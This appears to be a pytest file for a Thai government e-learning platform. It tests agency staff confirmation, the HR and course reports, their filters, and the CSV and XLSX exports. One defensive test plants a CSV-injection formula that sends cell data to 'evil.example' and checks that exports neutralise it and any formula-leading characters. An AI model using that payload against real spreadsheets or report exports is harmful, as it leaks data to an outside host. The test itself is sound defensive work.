"""Confirmed staff membership and the Learning reports (issue 17, step 7): a learner's declared
agency stays pending until one of the agency's administrators confirms it (the staff page and
its JSON), decline and removal tell the learner on their profile; the agency HR report counts
confirmed staff only, with its filters (course, dates typed in the Buddhist era, status), its CSV
(UTF-8 with a BOM) and XLSX downloads; the course report's numbers for the course's authors."""
import csv
import io
import json
import re
import uuid
import zipfile

import pytest

from accounts_helpers import registered_user, unique_name
from govhub_harness import Browser
from learning_helpers import enrol, verified_learner
from test_catalog_api import call, ok
from test_learning_courses import Author


def user_name(server, email):
    return server.query("SELECT name FROM users WHERE email = '%s'" % email)[0][0]


def api(browser, method, path, body=None, csrf_page="/learning"):
    headers = {}
    data = None
    if method != "GET":
        headers["X-CSRF-Token"] = browser.csrf_from(csrf_page)
        headers["Content-Type"] = "application/json"
        data = json.dumps(body or {}).encode()
    return browser.request(method, path, body=data, headers=headers)


class World:
    """Agency A (an editor authoring a published course of one text lesson and an admin), agency
    B with its own admin, and learners who declared agency A at sign-up."""

    def __init__(self, server, smtp, sysadmin):
        self.server, self.smtp, self.sysadmin = server, smtp, sysadmin
        self.author = Author(server, smtp, sysadmin)
        self.agency = self.author.agency
        self.admin = Browser(server)
        self.admin_name = registered_user(self.admin, smtp, "hradmin")
        ok(call(Browser(server), "organization_member_create",
                {"id": self.agency, "username": self.admin_name, "role": "admin"}, sysadmin))
        self.agency_b = unique_name("lrb")
        ok(call(Browser(server), "organization_create", {"name": self.agency_b, "title": "กรมอื่น"}, sysadmin))
        self.admin_b = Browser(server)
        name_b = registered_user(self.admin_b, smtp, "hradminb")
        ok(call(Browser(server), "organization_member_create",
                {"id": self.agency_b, "username": name_b, "role": "admin"}, sysadmin))
        self.course = self.author.create()
        section = self.author.add_section(self.course)
        self.lesson = self.author.add_lesson(self.course, section)
        assert self.author.publish(self.course).status == 303

    def learner(self, agency=None, position="นักวิเคราะห์นโยบายและแผน"):
        """A verified learner (browser, user name) who declared `agency` (A by default; "" for
        none) at sign-up."""
        b = Browser(self.server)
        agency = self.agency if agency is None else agency
        extra = {"civil_servant": "1", "agency_id": agency, "position": position} if agency else {}
        email = verified_learner(b, self.smtp, **extra)
        return b, user_name(self.server, email)

    def staff_action(self, browser, action, user):
        return browser.post_form("/learning/agency/%s/staff/%s" % (self.agency, action), {"user": user},
                                 csrf_page="/learning/agency/%s/staff" % self.agency)


@pytest.fixture(scope="module")
def world(server, smtp, sysadmin):
    return World(server, smtp, sysadmin)


def report(browser, agency, query=""):
    return browser.get("/api/learning/agencies/%s/report%s" % (agency, query))


def names_in(r):
    assert r.status == 200, r.text[:2000]
    return {row["user_name"] for row in r.json()["rows"]}


def test_membership_is_pending_until_the_agency_admin_confirms(server, world):
    learner, name = world.learner()
    # The learner's profile says the agency has not confirmed it yet.
    page = learner.get("/user/" + name).text
    assert "กรมทดสอบการเรียนรู้" in page and "รอหน่วยงานยืนยัน" in page
    # The admin's staff page lists them as pending; the HR report does not count them.
    staff = world.admin.get("/learning/agency/%s/staff" % world.agency)
    assert staff.status == 200
    pending = staff.text[staff.text.index('id="pending-heading"'):staff.text.index('id="confirmed-heading"')]
    assert name in pending
    assert name not in names_in(report(world.admin, world.agency))
    # The learner cannot confirm themselves; another agency's admin cannot either; anonymous
    # visitors are sent to log in.
    r = api(learner, "POST", "/api/learning/agencies/%s/staff/confirm" % world.agency, {"user": name})
    assert r.status == 403, r.text
    r = api(world.admin_b, "POST", "/api/learning/agencies/%s/staff/confirm" % world.agency, {"user": name})
    assert r.status == 403, r.text
    assert world.admin_b.get("/learning/agency/%s/staff" % world.agency).status == 403
    assert report(world.admin_b, world.agency).status == 403
    assert report(Browser(server), world.agency).status == 401
    assert world.admin.get("/learning/agency/no-such-agency-xyz/staff").status == 404
    assert server.query("SELECT agency_confirmed_at FROM learning_profiles p JOIN users u ON u.id = p.user_id "
                        "WHERE u.name = '%s'" % name)[0][0] == ""
    # Confirmed on the page: audited, in the report, and the profile says so.
    r = world.staff_action(world.admin, "confirm", name)
    assert r.status == 303 and r.header("Location").endswith("/staff?done=confirmed")
    assert name in names_in(report(world.admin, world.agency))
    page = learner.get("/user/" + name).text
    assert "หน่วยงานยืนยันแล้ว" in page and "รอหน่วยงานยืนยัน" not in page
    audits = server.query("SELECT a.action FROM audit_log a JOIN users u ON u.id = a.object_id "
                          "WHERE u.name = '%s' AND a.action LIKE 'learning.agency_staff.%%'" % name)
    assert audits == [("learning.agency_staff.confirm",)]
    # Confirming twice changes nothing.
    r = api(world.admin, "POST", "/api/learning/agencies/%s/staff/confirm" % world.agency, {"user": name})
    assert r.status == 200 and r.json()["changed"] is False
    assert name in {m["name"] for m in r.json()["confirmed"]}
    # Someone who declared another agency cannot be confirmed here.
    _, other = world.learner(agency=world.agency_b)
    r = api(world.admin, "POST", "/api/learning/agencies/%s/staff/confirm" % world.agency, {"user": other})
    assert r.status == 404, r.text


def test_decline_and_removal_clear_the_agency_and_tell_the_learner(server, world):
    learner, name = world.learner()
    r = world.staff_action(world.admin, "decline", name)
    assert r.status == 303
    page = learner.get("/user/" + name).text
    assert "หน่วยงานไม่ยืนยันว่าคุณเป็นบุคลากรของ" in page
    assert server.query("SELECT civil_servant, COALESCE(agency_id, '') FROM learning_profiles p JOIN users u "
                        "ON u.id = p.user_id WHERE u.name = '%s'" % name)[0] == ("0", "")
    assert name not in world.admin.get("/learning/agency/%s/staff" % world.agency).text
    # A confirmed member removed: out of the report, told on the profile (in English too).
    learner2, name2 = world.learner()
    assert world.staff_action(world.admin, "confirm", name2).status == 303
    assert name2 in names_in(report(world.admin, world.agency))
    r = api(world.admin, "POST", "/api/learning/agencies/%s/staff/decline" % world.agency, {"user": name2})
    assert r.status == 200 and r.json()["changed"] is True
    assert name2 not in names_in(report(world.admin, world.agency))
    page = learner2.get("/user/%s?lang=en" % name2).text
    assert "You were removed from the staff of" in page
    actions = [a for (a,) in server.query(
        "SELECT a.action FROM audit_log a JOIN users u ON u.id = a.object_id WHERE u.name = '%s' "
        "AND a.action LIKE 'learning.agency_staff.%%' ORDER BY a.id" % name2)]
    assert actions == ["learning.agency_staff.confirm", "learning.agency_staff.remove"]


def certificate(server, course, user, code, revoked=False, issued="2026-12-01T03:00:00.000000Z"):
    ids = server.query("SELECT c.id, u.id FROM learning_courses c, users u WHERE c.name = '%s' AND u.name = '%s'"
                       % (course, user))[0]
    server.execute(
        "INSERT INTO learning_certificates (id, code, course_id, user_id, completed_at, issued_at, status_index, "
        "snapshot, revoked_at) VALUES ('%s', '%s', '%s', '%s', '%s', '%s', %d, '{}', '%s')"
        % (uuid.uuid4(), code, ids[0], ids[1], issued, issued, uuid.uuid4().int % 100000 + 1000,
           "2026-12-03T03:00:00Z" if revoked else ""))


@pytest.fixture(scope="module")
def staffed(server, world):
    """Agency A's confirmed staff: `done` completed the course (score 80, a certificate), `going`
    enrolled without finishing, `idle` never enrolled; `pending` (not confirmed) completed it too;
    `public` (no agency) enrolled. Dates set in the database: enrolled 2026-11-05 (done) and
    2026-12-02 (going); done completed 2026-11-20."""
    people = {}
    for key in ("done", "going", "idle", "pending"):
        people[key] = world.learner()
    people["public"] = world.learner(agency="")
    for key in ("done", "going", "idle"):
        assert world.staff_action(world.admin, "confirm", people[key][1]).status == 303
    for key in ("done", "going", "pending", "public"):
        enrol(people[key][0], world.course)
    for key in ("done", "pending"):
        assert people[key][0].get("/learning/lesson/" + world.lesson).status == 200
    def user_id(key):
        return server.query("SELECT id FROM users WHERE name = '%s'" % people[key][1])[0][0]
    course_id = server.query("SELECT id FROM learning_courses WHERE name = '%s'" % world.course)[0][0]
    for key, enrolled, completed in (("done", "2026-11-05T02:00:00.000000Z", "2026-11-20T02:00:00.000000Z"),
                                     ("going", "2026-12-02T02:00:00.000000Z", "")):
        server.execute("UPDATE learning_enrolments SET enrolled_at = '%s', completed_at = '%s' "
                       "WHERE user_id = '%s' AND course_id = '%s'" % (enrolled, completed, user_id(key), course_id))
    server.execute("UPDATE learning_progress SET score = 80 WHERE user_id = '%s'" % user_id("done"))
    server.execute("UPDATE learning_progress SET score = 60 WHERE user_id = '%s'" % user_id("pending"))
    people["code"] = "RPT-" + uuid.uuid4().hex[:8].upper()
    certificate(server, world.course, people["done"][1], people["code"])
    certificate(server, world.course, people["pending"][1], people["code"] + "X", revoked=True)
    return people


def test_the_hr_report_counts_confirmed_staff_with_their_status(world, staffed):
    r = report(world.admin, world.agency)
    assert r.status == 200, r.text
    rows = {row["user_name"]: row for row in r.json()["rows"]}
    done, going, idle = (staffed[k][1] for k in ("done", "going", "idle"))
    assert {done, going, idle} <= set(rows)
    assert staffed["pending"][1] not in rows and staffed["public"][1] not in rows
    assert rows[done]["status"] == "completed" and rows[done]["percent"] == 100
    assert rows[done]["score"] == 80
    assert rows[done]["certificate"]["code"] == staffed["code"] and rows[done]["certificate"]["revoked"] is False
    assert rows[done]["course"]["name"] == world.course
    assert rows[going]["status"] == "in_progress" and rows[going]["percent"] == 0 and rows[going]["score"] is None
    assert rows[idle]["status"] == "not_enrolled" and "course" not in rows[idle]
    # Filters: status, course, dates typed in the Buddhist era (Thai time) or Gregorian.
    assert names_in(report(world.admin, world.agency, "?status=completed")) >= {done}
    assert going not in names_in(report(world.admin, world.agency, "?status=completed"))
    not_done = names_in(report(world.admin, world.agency, "?status=not_completed"))
    assert {going, idle} <= not_done and done not in not_done
    assert names_in(report(world.admin, world.agency, "?course=" + world.course)) >= {done, going, idle}
    nov = names_in(report(world.admin, world.agency, "?date_field=enrolled&from=1/11/2569&to=30/11/2569"))
    assert done in nov and going not in nov and idle not in nov
    dec = names_in(report(world.admin, world.agency, "?date_field=enrolled&from=2026-12-01&to=2026-12-31"))
    assert going in dec and done not in dec
    completed = names_in(report(world.admin, world.agency, "?date_field=completed&from=20/11/2569&to=20/11/2569"))
    assert completed == {done}
    assert names_in(report(world.admin, world.agency, "?date_field=completed&from=21/11/2569")) == set()
    # Wrong filters are refused with what is wrong, on the page too.
    r = report(world.admin, world.agency, "?from=31/02/2569")
    assert r.status == 409 and "from" in r.json()["error"]["fields"], r.text
    r = world.admin.get("/learning/agency/%s/report?from=not-a-date" % world.agency)
    assert r.status == 422 and 'id="from"' in r.text and "aria-invalid" in r.text
    assert report(world.admin, world.agency, "?status=maybe").status == 409
    # The page: the rows, the certificate's code, the download links keeping the filters.
    page = world.admin.get("/learning/agency/%s/report?status=completed" % world.agency)
    assert page.status == 200 and staffed["code"] in page.text
    assert "format=csv&amp;status=completed" in page.text or "format=csv&status=completed" in page.text


def test_the_hr_report_downloads_as_csv_and_xlsx(world, staffed):
    r = world.admin.get("/learning/agency/%s/report?format=csv" % world.agency)
    assert r.status == 200 and r.header("Content-Type").startswith("text/csv")
    assert r.body.startswith(b"\xef\xbb\xbf"), r.body[:20]
    rows = list(csv.reader(io.StringIO(r.body[3:].decode("utf-8"))))
    header, body = rows[0], rows[1:]
    assert header[0] == "ชื่อ-นามสกุล" and "เลขที่ประกาศนียบัตร" in header
    by_user = {row[2]: dict(zip(header, row)) for row in body}
    done = by_user[staffed["done"][1]]
    assert done["สถานะ"] == "เรียนจบแล้ว" and done["วันที่เรียนจบ"] == "2026-11-20"
    assert done["คะแนน"] == "80" and done["เลขที่ประกาศนียบัตร"] == staffed["code"]
    assert done["ชื่อหลักสูตร"] == "การวิเคราะห์ข้อมูลภาครัฐเบื้องต้น"
    assert staffed["pending"][1] not in by_user and staffed["public"][1] not in by_user
    # Filters apply to the download too.
    r = world.admin.get("/learning/agency/%s/report?format=csv&status=completed" % world.agency)
    users = {row[2] for row in list(csv.reader(io.StringIO(r.body[3:].decode("utf-8"))))[1:]}
    assert staffed["done"][1] in users and staffed["going"][1] not in users
    # XLSX: a workbook whose sheet holds the same rows.
    r = world.admin.get("/learning/agency/%s/report?format=xlsx" % world.agency)
    assert r.status == 200 and "spreadsheetml" in r.header("Content-Type")
    import openpyxl
    ws = openpyxl.load_workbook(io.BytesIO(r.body), read_only=True).active
    sheet = [[c if c is not None else "" for c in row] for row in ws.iter_rows(values_only=True)]
    assert sheet[0] == header
    assert {row[2] for row in sheet[1:]} == set(by_user)
    # Another agency's admin downloads nothing.
    assert world.admin_b.get("/learning/agency/%s/report?format=csv" % world.agency).status == 403


def test_the_course_report_for_its_authors(server, world, staffed):
    r = world.author.browser.get("/api/learning/courses/%s/report" % world.course)
    assert r.status == 200, r.text
    t = r.json()["totals"]
    # Enrolled: done, going, pending, public; completed: done and pending (the course report is
    # about the course, not the agency); both certificates, one revoked; scores 80 and 60.
    assert t == {"enrolled": 4, "in_progress": 2, "completed": 2, "certificates": 2, "revoked": 1,
                 "average_score": 70.0}, t
    users = {row["user_name"] for row in r.json()["rows"]}
    assert users == {staffed[k][1] for k in ("done", "going", "pending", "public")}
    page = world.author.browser.get("/learning/course/%s/report" % world.course)
    assert page.status == 200
    assert re.search(r'id="total-enrolled">4<', page.text) and re.search(r'id="total-average">70.0%<', page.text)
    # The manage page links to it.
    assert "/learning/course/%s/report" % world.course in world.author.manage(world.course).text
    r = world.author.browser.get("/learning/course/%s/report?format=csv" % world.course)
    rows = list(csv.reader(io.StringIO(r.body[3:].decode("utf-8"))))
    assert len(rows) == 5 and rows[0][0] == "ชื่อ-นามสกุล"
    # A learner of the course and another agency's admin may not read it.
    assert staffed["done"][0].get("/api/learning/courses/%s/report" % world.course).status == 403
    assert world.admin_b.get("/learning/course/%s/report" % world.course).status == 403
    assert Browser(server).get("/api/learning/courses/%s/report" % world.course).status == 401
    assert world.author.browser.get("/api/learning/courses/no-such-course-xyz/report").status == 404


def test_the_agency_admin_finds_the_pages_in_both_languages(world):
    my = world.admin.get("/learning/my").text
    assert "/learning/agency/%s/staff" % world.agency in my and "/learning/agency/%s/report" % world.agency in my
    org = world.admin.get("/organization/" + world.agency).text
    assert "/learning/agency/%s/staff" % world.agency in org
    en = world.admin.get("/learning/agency/%s/staff?lang=en" % world.agency)
    assert en.status == 200 and "Agency staff" in en.text and "Waiting for confirmation" in en.text
    en = world.admin.get("/learning/agency/%s/report?lang=en" % world.agency)
    assert en.status == 200 and "Staff learning report" in en.text


def test_report_downloads_never_hand_a_spreadsheet_a_formula(server, world):
    # A learner's position is their own text: in a report someone opens in Excel, it must read
    # as text, not run (CSV injection). Numbers stay numbers.
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'
    b, name = world.learner(position=hostile)
    assert world.staff_action(world.admin, "confirm", name).status == 303
    enrol(b, world.course)
    for browser, path in ((world.admin, "/learning/agency/%s/report?format=csv&lang=th" % world.agency),
                          (world.author.browser, "/learning/course/%s/report?format=csv&lang=th" % world.course)):
        r = browser.get(path)
        assert r.status == 200, r.text[:2000]
        rows = list(csv.reader(io.StringIO(r.body[3:].decode("utf-8"))))
        header = rows[0]
        mine = dict(zip(header, next(row for row in rows[1:] if row[2] == name)))
        assert mine.get("ตำแหน่ง") == "'" + hostile, (header, mine)
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row), path
        assert mine["ความก้าวหน้า (%)"] == "0"  # a number column: as it was
